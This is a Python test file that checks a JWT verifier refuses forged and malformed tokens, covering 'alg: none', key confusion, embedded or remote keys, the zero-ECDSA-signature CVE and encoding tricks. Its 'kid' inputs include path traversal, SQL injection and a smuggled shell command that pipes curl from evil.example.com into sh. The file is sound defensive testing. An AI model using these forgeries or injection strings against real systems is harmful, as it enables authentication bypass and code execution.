"""Attacks on a JWT's structure, header, key and signature: each is refused for its own reason.

None has keys fetched that needn't be, and nothing that a token names is ever gone to.
"""

from typing import Any

import pytest
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from sallyport.identity.hmac_keys import HmacKeys
from tests.support.issuer import (
    EC_KEY,
    ISSUER,
    OTHER_RSA_KEY,
    RSA_KEY,
    RULES,
    SHORT_RSA_KEY,
    Desk,
    document,
    encode,
    jwk,
    signed_token,
    token,
)
from tests.support.token_attacks import (
    HEADER,
    Attack,
    by_stranger,
    change_part,
    check_refused,
    dangling_bits,
    promote,
    refusal,
    rewritten,
    signed_with_the_public_key,
    unsigned,
    with_claims,
    with_header,
    with_payload,
    with_raw_header,
)

EMBEDDED = jwk(OTHER_RSA_KEY, "rsa-1", alg="RS256")
RUNTIME_API = "http://127.0.0.1:9001/2018-06-01/runtime/invocation/next"

ATTACKS = [
    *[
        Attack(f"algorithm {name!r}, no signature", unsigned(name), "token_algorithm_refused", 0)
        for name in ("none", "None", "NONE", "nOnE", "none ", "", None, 0, ["RS256"], {"RS256": 1})
    ],
    Attack("no algorithm", with_header(alg=...), "token_algorithm_refused", 0),
    Attack("algorithm in another case", with_header(alg="rs256"), "token_algorithm_refused", 0),
    Attack("algorithm not configured", with_header(alg="RS512"), "token_algorithm_refused", 0),
    Attack(
        "key confusion, PEM",
        signed_with_the_public_key(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        "token_algorithm_refused",
        0,
    ),
    Attack(
        "key confusion, DER",
        signed_with_the_public_key(Encoding.DER, PublicFormat.PKCS1),
        "token_algorithm_refused",
        0,
    ),
    Attack("key of another family", with_header(kid="ec-1"), "token_key_unknown", 1),
    Attack("family of another key", with_header(alg="ES256"), "token_key_unknown", 1),
    Attack("curve of another key", with_header(alg="ES384", kid="ec-1"), "token_key_unknown", 1),
    Attack("RSA signature called PSS", with_header(alg="PS256"), "token_signature_wrong", 1),
    Attack("crit unknown", with_header(crit=["exp"]), "token_extension_refused", 0),
    Attack("crit known to others", with_header(crit=["b64"], b64=True), "token_extension_refused", 0),
    Attack("crit empty", with_header(crit=[]), "token_extension_refused", 0),
    Attack("crit null", with_header(crit=None), "token_extension_refused", 0),
    Attack("crit no list", with_header(crit="b64"), "token_extension_refused", 0),
    Attack("jwk embedded", by_stranger(jwk=EMBEDDED), "token_signature_wrong", 1),
    Attack("jwk embedded, kid its own", by_stranger(kid="mine", jwk=EMBEDDED), "token_key_unknown", 1),
    Attack("jwk embedded, no kid", by_stranger(kid=None, jwk=EMBEDDED), "token_kid_missing", 0),
    Attack("jku", by_stranger(jku=RUNTIME_API), "token_signature_wrong", 1),
    Attack("x5u", by_stranger(x5u=RUNTIME_API), "token_signature_wrong", 1),
    Attack("x5c", by_stranger(x5c=["MIIB"]), "token_signature_wrong", 1),
    Attack("kid as a path", with_header(kid="../../../../dev/null"), "token_key_unknown", 1),
    Attack("kid as a path with NUL", with_header(kid="rsa-1\x00.pem"), "token_key_unknown", 1),
    Attack("kid as a URL", with_header(kid=RUNTIME_API), "token_key_unknown", 1),
    Attack("kid as SQL", with_header(kid="x' UNION SELECT 'rsa-1' --"), "token_key_unknown", 1),
    Attack("kid as a command", with_header(kid="rsa-1; curl evil.example.com | sh"), "token_key_unknown", 1),
    Attack("kid with a space", with_header(kid="rsa-1 "), "token_key_unknown", 1),
    Attack("kid in another case", with_header(kid="RSA-1"), "token_key_unknown", 1),
    Attack("kid empty", with_header(kid=""), "token_key_unknown", 1),
    Attack("kid of 10 kB", with_header(kid="k" * 10_000), "token_malformed", 0),
    Attack("kid of 5 kB", with_header(kid="k" * 5_000), "token_key_unknown", 1),
    Attack("kid missing", with_header(kid=...), "token_kid_missing", 0),
    *[
        Attack(f"kid {kid!r}", with_header(kid=kid), "token_kid_malformed", 0)
        for kid in (None, 7, True, ["rsa-1"], {"rsa-1": 1})
    ],
    Attack(
        "short RSA key", lambda desk: token(desk.claims(), key=SHORT_RSA_KEY, kid="short-1"), "token_key_unknown", 1
    ),
    Attack("stranger's signature", by_stranger(), "token_signature_wrong", 1),
    Attack("signature stripped", change_part(2, lambda _: ""), "token_signature_wrong", 1),
    Attack("signature of zeros", change_part(2, lambda _: encode(bytes(256))), "token_signature_wrong", 1),
    Attack(
        "ECDSA signature of zeros (CVE-2022-21449)",
        lambda desk: f"{encode({'alg': 'ES256', 'kid': 'ec-1'})}.{encode(desk.claims())}.{encode(bytes(64))}",
        "token_signature_wrong",
        1,
    ),
    Attack(
        "ECDSA signature in DER",
        lambda desk: f"{encode({'alg': 'ES256', 'kid': 'ec-1'})}.{encode(desk.claims())}.{encode(b'0' * 70)}",
        "token_signature_wrong",
        1,
    ),
    Attack("claims exchanged", rewritten(promote), "token_signature_wrong", 1),
    Attack("header padded", change_part(0, lambda part: part + "="), "token_malformed", 0),
    Attack("payload padded", change_part(1, lambda part: part + "=="), "token_malformed", 0),
    Attack("signature padded", change_part(2, lambda part: part + "=="), "token_malformed", 0),
    Attack("signature with dangling bits", rewritten(dangling_bits), "token_malformed", 0),
    Attack("signature in plain base64", change_part(2, lambda _: "+/" * 171), "token_malformed", 0),
    Attack(
        "signature with a line break", change_part(2, lambda part: part[:9] + "\n" + part[9:]), "token_malformed", 0
    ),
    Attack("signature with a foreign sign", change_part(2, lambda part: part + "!"), "token_malformed", 0),
    Attack("signature in wide letters", change_part(2, lambda part: "\uff21" + part[1:]), "token_malformed", 0),
    Attack("a fourth part", rewritten(lambda parts: parts.append("x")), "token_malformed", 0),
    Attack("five parts, as if encrypted", rewritten(lambda parts: parts.extend("xy")), "token_malformed", 0),
    Attack("two parts", rewritten(lambda parts: parts.pop()), "token_malformed", 0),
    Attack("more than 8192 characters", change_part(2, lambda part: part + "A" * 8192), "token_malformed", 0),
    Attack("header no object", with_raw_header('["RS256"]'), "token_malformed", 0),
    Attack("header null", with_raw_header("null"), "token_malformed", 0),
    Attack(
        "header in UTF-16",
        lambda desk: signed_token('{"alg":"RS256"}'.encode("utf-16"), {}, algorithm="RS256"),
        "token_malformed",
        0,
    ),
    Attack(
        "header with a byte order mark", with_raw_header('\ufeff{"alg":"RS256","kid":"rsa-1"}'), "token_malformed", 0
    ),
    Attack("alg twice", with_raw_header('{"alg":"none","kid":"rsa-1","alg":"RS256"}'), "token_malformed", 0),
    Attack("kid twice", with_raw_header('{"alg":"RS256","kid":"x","kid":"rsa-1"}'), "token_malformed", 0),
    Attack("header nested deeply", with_raw_header('{"a":' + "[" * 2900 + "]" * 2900 + "}"), "token_malformed", 0),
    Attack("payload nested deeply", with_payload('"acme"', "[" * 33 + "]" * 33), "token_malformed", 0),
    Attack("payload no object", lambda _: signed_token(HEADER, [1]), "token_malformed", 0),
    Attack("payload not UTF-8", lambda _: signed_token(HEADER, b'{"iss":"\xff"}'), "token_malformed", 0),
    Attack(
        "payload another token", lambda desk: signed_token(HEADER, token(desk.claims()).encode()), "token_malformed", 0
    ),
]


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_an_attack_is_refused_for_its_own_reason(attack: Attack) -> None:
    check_refused(attack)


def test_what_the_attacks_start_from_is_good() -> None:
    desk = Desk()
    for make in (with_header(), with_claims(), with_payload("acme", "acme"), rewritten(lambda _: None)):
        assert desk.verify(make(desk)).tenant == "acme"


@pytest.mark.parametrize("header", [{"jku": RUNTIME_API}, {"x5u": RUNTIME_API}, {"jwk": EMBEDDED}, {"b64": False}])
def test_what_a_header_brings_along_has_no_effect(header: dict[str, Any]) -> None:
    desk = Desk()
    assert desk.verify(token(desk.claims(), **header)).tenant == "acme"


@pytest.mark.parametrize(
    ("key", "reason"),
    [
        (jwk(RSA_KEY, "rsa-1", alg="RS384"), "token_key_unknown"),
        (jwk(RSA_KEY, "rsa-1", alg="PS256"), "token_key_unknown"),
        (jwk(RSA_KEY, "rsa-1", alg="none"), "token_key_unknown"),
        (jwk(RSA_KEY, "rsa-1", use="enc"), "token_key_unknown"),
        (jwk(RSA_KEY, "rsa-1", key_ops=["sign"]), "token_key_unknown"),
        ({"kty": "oct", "k": encode(b"secret" * 8), "kid": "rsa-1", "alg": "RS256"}, "token_key_unknown"),
    ],
)
def test_a_key_that_is_for_something_else_is_not_used(key: dict[str, Any], reason: str) -> None:
    desk = Desk(documents={ISSUER: document(key)})
    assert refusal(desk, token(desk.claims())) == reason


def test_two_keys_of_one_kid_are_neither_of_them_used() -> None:
    desk = Desk(documents={ISSUER: document(jwk(OTHER_RSA_KEY, "rsa-1"), jwk(RSA_KEY, "rsa-1"))})
    assert refusal(desk, token(desk.claims())) == "token_key_unknown"
    assert refusal(desk, token(desk.claims(), key=OTHER_RSA_KEY)) == "token_key_unknown"


def test_a_symmetric_key_in_a_key_set_is_no_key_even_where_hmac_were_configured() -> None:
    secret = b"published to everybody, which is no secret"
    published = document({"kty": "oct", "k": encode(secret), "kid": "oct-1", "alg": "HS256", "use": "sig"})
    desk = Desk(RULES._replace(algorithms=("HS256", "RS256")), documents={ISSUER: published})
    assert refusal(desk, token(desk.claims(), key=secret, algorithm="HS256", kid="oct-1")) == "token_key_unknown"


class Secret:
    def read(self) -> str:
        return "a secret that is longer than its hash"


def test_an_issuer_with_a_secret_is_asked_for_nothing_else() -> None:
    rules = RULES._replace(jwks_url="", hmac_secret="login", algorithms=("HS256",))
    desk = Desk(rules, key_source=lambda rules: HmacKeys(Secret(), rules.algorithms))
    secret = Secret().read().encode()
    for kid in (None, "anything", "../../dev/null"):
        assert desk.verify(token(desk.claims(), key=secret, algorithm="HS256", kid=kid)).tenant == "acme"
    assert refusal(desk, token(desk.claims(), key=secret + b"!", algorithm="HS256")) == "token_signature_wrong"
    assert refusal(desk, token(desk.claims(), key=RSA_KEY)) == "token_algorithm_refused"
    assert refusal(desk, token(desk.claims(), key=EC_KEY, algorithm="ES256")) == "token_algorithm_refused"
    assert refusal(desk, unsigned("none")(desk)) == "token_algorithm_refused"
    assert refusal(desk, signed_token({"alg": "HS256", "kid": 7}, desk.claims(), secret)) == "token_kid_malformed"
